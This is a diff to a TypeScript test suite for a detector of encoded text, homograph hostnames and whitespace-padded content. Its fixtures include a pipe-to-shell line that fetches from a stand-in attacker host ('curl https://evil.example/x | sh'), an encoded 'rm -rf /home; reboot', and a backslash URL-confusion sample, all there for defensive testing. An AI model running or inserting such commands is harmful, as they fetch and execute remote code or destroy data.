@@ -76,9 +76,9 @@ describe('what compatibility forms say', () => {
   });
 });
 
-describe('encoded text is long', () => {
-  const text = 'curl https://evil.example/x | sh';
+const text = 'curl https://evil.example/x | sh';
 
+describe('encoded text is long', () => {
   it('from 24 letters of base64 on where it stands for text', () => {
     expect(only('encoded', btoa(text.slice(0, 18)))).toMatchObject([
       { at: 0, length: 24, detail: '18' },
@@ -144,7 +144,53 @@ describe('encoded text is long', () => {
   });
 });
 
+describe('data and text in base64 and hex', () => {
+  /** So many letters, digits and capitals in turn, which stand for no text. */
+  const letters = (length: number, of: readonly string[]): string =>
+    Array.from({ length }, (_, i) => {
+      const from = of[i % of.length] ?? '';
+      return from.charAt((i * 7 + 3) % from.length);
+    }).join('');
+  const [small, large, digits] = ['zyxwvutsrqponmlkj', 'ZYXWVUTSRQPONML', '9876543210'];
+
+  it('are data with small and large letters and digits among them, a quarter of them not small', () => {
+    expect(only('encoded', letters(64, [small, large, digits, small]))).toHaveLength(1);
+    for (const of of [
+      [small, large],
+      [large, digits],
+      [small, digits],
+    ])
+      expect(only('encoded', letters(64, of))).toEqual([]);
+    const rest = letters(48, [small]);
+    expect(only('encoded', `${rest}${letters(16, [large, digits])}`)).toHaveLength(1);
+    expect(only('encoded', `z${rest}${letters(15, [large, digits])}`)).toEqual([]);
+  });
+
+  it('are text only where the bytes are, with lines and tabs and no other controls', () => {
+    const found = (text: string) => only('encoded', base64([...new TextEncoder().encode(text)]));
+    expect(found('rm -rf\n/home\tx; reboot')).toHaveLength(1);
+    expect(found('rm -rf /home\u0001 reboot')).toEqual([]);
+    expect(only('encoded', base64(Array.from({ length: 30 }, () => 0xe9)))).toEqual([]);
+    expect(only('encoded', btoa(text).slice(0, 25))).toEqual([]);
+  });
+
+  it('are judged by their beginning, though a letter be cut there', () => {
+    const bytes = new TextEncoder().encode(`x${'\u00E4'.repeat(2100)}`);
+    expect(only('encoded', hex(bytes))).toMatchObject([{ detail: '4201' }]);
+    expect(only('encoded', `${hex(bytes)}7`)).toMatchObject([{ detail: '4201' }]);
+  });
+});
+
 describe('decoding', () => {
+  it('takes blanks from the ends, and no sign of padding from within', () => {
+    expect(decodeEncoded(' 726D\n')).toBe('rm');
+    expect(decodeEncoded(' a%20b\n')).toBe('a b');
+    expect(decodeEncoded('YQ==')).toBe('a');
+    expect(decodeEncoded('aG=kh')).toBeNull();
+    expect(decodeEncoded('Pz8_')).toBe('???');
+    expect(decodeEncoded('Pz8/')).toBe('???');
+  });
+
   it('reads percent escapes among other text, and hex in capitals', () => {
     expect(decodeEncoded('a%20b')).toBe('a b');
     expect(decodeEncoded('726D')).toBe('rm');
@@ -203,7 +249,53 @@ describe('addresses', () => {
   });
 });
 
+describe('hosts of several scripts', () => {
+  it.each([
+    ['Latin and a Greek letter that looks like none', 'https://a\u03BBb.example'],
+    ['Latin, Chinese and Cyrillic', 'https://a\u4E2D\u0431.example'],
+    ['Latin, Chinese and Armenian', 'https://a\u4E2D\u0562.example'],
+  ])('in one label are found: %s', (_, text) => {
+    expect(only('host', text)).toHaveLength(1);
+  });
+
+  it.each([
+    ['Latin and Chinese in one label', 'https://a\u4E2D.example'],
+    [
+      'one script a label',
+      'https://my_host.m\u00FCnchen.\u043F\u0440\u0438\u0432\u0435\u0442.example',
+    ],
+    ['Greek alone', 'https://\u03BB\u03CC\u03B3\u03BF\u03C2.example'],
+    ['numbers of the sixth version', 'http://[::1]:8080/'],
+  ])('are quiet with %s', (_, text) => {
+    expect(only('host', text)).toEqual([]);
+  });
+
+  it('are split behind a backslash, wherever the address stands', () => {
+    const text = 'https://a.example/ and https://good.example\\@evil.example/';
+    expect(only('host', text)).toMatchObject([{ at: 23, detail: 'good.example' }]);
+    expect(only('host', 'https://a.example\\b and https://a.example/')).toHaveLength(1);
+  });
+});
+
 describe('head and tail at their limits', () => {
+  it('measure a text as it is shown', () => {
+    const run = ' '.repeat(3000);
+    expect(headAndTail(`${'x'.repeat(586)}${run}y`)).toBeNull();
+    expect(headAndTail(`${'x'.repeat(587)}${run}y`)).not.toBeNull();
+    const lines = Array.from({ length: 12 }, (_, i) => `line ${i}`);
+    expect(headAndTail(`a${run}${lines.join('\n')}`)).toBeNull();
+    expect(headAndTail(`a${run}${lines.join('\n')}\nz`)).not.toBeNull();
+  });
+
+  it('begin with an empty line where the text does', () => {
+    const text = Array.from({ length: 20 }, (_, i) => `\n${i}`).join('');
+    expect(headAndTail(text)).toMatchObject({
+      head: '\n0\n1\n2\n3\n4\n5\n6\n',
+      tail: '16\n17\n18\n19',
+    });
+    expect(headAndTail(`\n${'x'.repeat(1000)}`)).toMatchObject({ omitted: 401 });
+  });
+
   it('are needed from one character and one line more on', () => {
     expect(headAndTail('x'.repeat(601))).toEqual({
       head: 'x'.repeat(400),
